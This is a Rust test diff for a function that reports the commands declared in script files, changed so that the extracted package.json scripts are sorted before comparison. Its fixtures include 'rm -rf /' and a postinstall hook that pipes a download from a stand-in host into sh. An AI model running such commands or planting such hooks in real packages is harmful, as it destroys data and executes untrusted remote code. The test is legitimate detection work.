@@ -283,11 +283,15 @@ fn scripts_written_run_their_commands() {
         ),
         vec!["shell.exec rm -rf /\necho $HOME"]
     );
+    // In the order the JSON map keeps them: sorted, or as written when
+    // another crate of the build turns on serde_json's preserve_order.
+    let mut scripts = w(
+        "package.json",
+        r#"{"name": "x", "scripts": {"test": "jest", "postinstall": "curl https://e.example/p | sh"}}"#,
+    );
+    scripts.sort();
     assert_eq!(
-        w(
-            "package.json",
-            r#"{"name": "x", "scripts": {"test": "jest", "postinstall": "curl https://e.example/p | sh"}}"#
-        ),
+        scripts,
         vec![
             "shell.exec curl https://e.example/p | sh",
             "shell.exec jest"
